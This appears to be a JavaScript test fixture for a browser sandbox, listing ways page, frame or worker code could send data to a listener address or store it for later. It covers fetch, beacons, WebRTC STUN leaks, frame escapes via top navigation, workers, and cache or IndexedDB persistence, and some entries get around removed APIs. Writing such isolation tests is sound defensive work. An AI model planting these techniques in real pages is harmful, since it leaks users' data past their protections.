// Ways to get data out of a page, each as code that a malicious part of it could hold. They run in the page, not here:
// `target` is the address of a listener, and each adds its own name to it.

/** @typedef {{ target: string, stun: string, own: string }} Aims `own` is the address of the page's own server. */
/** @typedef {Record<string, (aims: Aims) => unknown>} Attempts */

/** What a document can try. @type {Attempts} */
export const FROM_DOCUMENT = {
  fetch: ({ target }) => fetch(`${target}fetch`),
  'fetch-keepalive': ({ target }) => fetch(`${target}fetch-keepalive`, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'pixels' }),
  XMLHttpRequest: ({ target }) => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${target}XMLHttpRequest`);
    request.onloadend = resolve;
    request.send();
  }),
  WebSocket: ({ target }) => new WebSocket(`${target.replace('http', 'ws')}WebSocket`),
  EventSource: ({ target }) => new EventSource(`${target}EventSource`),
  sendBeacon: ({ target }) => navigator.sendBeacon(`${target}sendBeacon`, 'pixels'),
  image: ({ target }) => {
    new Image().src = `${target}image`;
  },
  'style-sheet': ({ target }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${target}style-sheet` }));
  },
  'css-url': ({ target }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { background-image: url(${target}css-url) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  font: ({ target }) => new FontFace('leak', `url(${target}font)`).load(),
  script: ({ target }) => {
    document.head.append(Object.assign(document.createElement('script'), { src: `${target}script` }));
  },
  import: ({ target }) => import(`${target}import`),
  video: ({ target }) => {
    const video = Object.assign(document.createElement('video'), { src: `${target}video`, preload: 'auto', muted: true });
    document.body.append(video);
    video.load();
  },
  frame: ({ target }) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: `${target}frame` }));
  },
  object: ({ target }) => {
    document.body.append(Object.assign(document.createElement('object'), { data: `${target}object` }));
  },
  prefetch: ({ target }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${target}prefetch` }));
  },
  modulepreload: ({ target }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: `${target}modulepreload` }));
  },
  'window.open': ({ target }) => {
    window.open(`${target}window.open`);
  },
  'link-to-new-window': ({ target }) => {
    Object.assign(document.createElement('a'), { href: `${target}link-to-new-window`, target: '_blank' }).click();
  },
  WebRTC: async ({ stun }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
    connection.createDataChannel('leak');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 500));
  },
};

/** More of a document's, whose effect outside a sealed frame would end the test. @type {Attempts} */
export const FROM_FRAME = {
  'form-to-top': ({ target }) => {
    const form = Object.assign(document.createElement('form'), { action: `${target}form-to-top`, method: 'post', target: '_top' });
    document.body.append(form);
    form.submit();
  },
  'top-location': ({ target }) => {
    if (top) top.location.href = `${target}top-location`;
  },
  'page-around': ({ target }) => {
    const { document: outer } = parent;
    outer.body.append(Object.assign(outer.createElement('img'), { src: `${target}page-around` }));
  },
  'frame-in-the-frame': async ({ stun }) => {
    // A fresh global scope would have WebRTC again.
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const { RTCPeerConnection: Connection } = /** @type {any} */ (frame.contentWindow);
    const connection = new Connection({ iceServers: [{ urls: stun }] });
    connection.createDataChannel('leak');
    await connection.setLocalDescription(await connection.createOffer());
  },
  'script-in-a-frame-in-the-frame': async ({ stun }) => {
    // A script that this frame made, in a document where nothing was removed yet.
    const code = `const connection = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] });
      connection.createDataChannel('leak');
      connection.createOffer().then((offer) => connection.setLocalDescription(offer));`;
    const address = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
    document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: `<script src="${address}"></script>` }));
    await new Promise((resolve) => setTimeout(resolve, 1000));
  },
  'own-server-fetch': ({ own }) => fetch(`${own}?own-server-fetch`),
  'own-server-image': ({ own }) => {
    new Image().src = `${own}?own-server-image`;
  },
  'service-worker': ({ own }) => navigator.serviceWorker.register(`${own}sw.js?service-worker`),
  worker: ({ own }) => new Worker(`${own}sw.js?worker`),
};

/** Ways that end the document they are tried in, one visit each. @type {Attempts} */
export const LEAVING = {
  download: ({ target }) => {
    Object.assign(document.createElement('a'), { href: `${target}download`, download: 'leak' }).click();
  },
  location: ({ target }) => {
    location.href = `${target}location`;
  },
  'location-own-server': ({ own }) => {
    location.href = `${own}?location-own-server`;
  },
  link: ({ target }) => {
    const link = Object.assign(document.createElement('a'), { href: `${target}link` });
    document.body.append(link);
    link.click();
  },
  form: ({ target }) => {
    const form = Object.assign(document.createElement('form'), { action: `${target}form`, method: 'get' });
    document.body.append(form);
    form.submit();
  },
  refresh: ({ target }) => {
    document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${target}refresh` }));
  },
};

/** What a worker can try. @type {Attempts} */
export const FROM_WORKER = {
  fetch: ({ target }) => fetch(`${target}fetch`),
  'own-server-fetch': ({ own }) => fetch(`${own}?own-server-fetch`),
  XMLHttpRequest: ({ target }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${target}XMLHttpRequest`, false);
    request.send();
  },
  WebSocket: ({ target }) => new WebSocket(`${target.replace('http', 'ws')}WebSocket`),
  EventSource: ({ target }) => new EventSource(`${target}EventSource`),
  import: ({ target }) => import(`${target}import`),
  'own-server-import': ({ own }) => import(`${own}sw.js?own-server-import`),
  font: ({ target }) => new FontFace('leak', `url(${target}font)`).load(),
  'cache-add': async ({ target }) => (await caches.open('leak')).add(new Request(`${target}cache-add`, { mode: 'no-cors' })),
  'worker-in-the-worker': ({ target }) => {
    const code = `fetch('${target}worker-in-the-worker'); try { importScripts('${target}worker-in-the-worker') } catch {}`;
    return new Worker(URL.createObjectURL(new Blob([code])));
  },
  'worker-of-own-server': ({ own }) => new Worker(`${own}sw.js?worker-of-own-server`),
};

/**
 * Ways to leave something for a later visit or for another page of the same origin, which could then send it: no request is
 * made, so no policy stops them. Each ends well only where it is possible.
 * @type {Attempts}
 */
export const KEEPING = {
  'cache-put': async ({ own }) => (await caches.open('leak')).put(`${own}leak`, new Response('pixels')),
  'cache-by-the-prototype': async ({ own }) => {
    let holder = globalThis;
    while (holder && !Object.getOwnPropertyDescriptor(holder, 'caches')) holder = Object.getPrototypeOf(holder);
    const storage = Object.getOwnPropertyDescriptor(holder, 'caches')?.get?.call(globalThis);
    await (await storage.open('leak')).put(`${own}leak`, new Response('pixels'));
  },
  indexedDB: () => new Promise((resolve, reject) => {
    const request = indexedDB.open('leak', 1);
    request.onupgradeneeded = () => request.result.createObjectStore('leak').put('pixels', 'film');
    request.onsuccess = () => {
      request.result.close();
      resolve('kept');
    };
    request.onerror = () => reject(request.error);
  }),
  'private-file-system': async () => (await navigator.storage.getDirectory()).getFileHandle('leak', { create: true }),
  'old-file-system': () => {
    const { webkitRequestFileSystemSync: open } = /** @type {any} */ (globalThis);
    open(0, 1024).root.getFile('leak', { create: true });
  },
  'storage-bucket': async () => {
    const { storageBuckets } = /** @type {any} */ (navigator);
    await storageBuckets.open('leak');
  },
  lock: () => navigator.locks.request('leak', () => {}),
  BroadcastChannel: () => {
    const channel = new BroadcastChannel('leak');
    channel.postMessage('pixels');
    channel.close();
  },
  'nested-worker': () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage("up")'], { type: 'text/javascript' })));
    worker.onmessage = resolve;
    worker.onerror = reject;
  }),
  'put-back': async ({ own }) => {
    // Whoever ran before may have removed it; this one gives it back.
    const storage = globalThis.caches ?? {};
    Object.defineProperty(globalThis, 'caches', { value: storage, configurable: true });
    await (await caches.open('leak')).put(`${own}leak`, new Response('pixels'));
  },
};
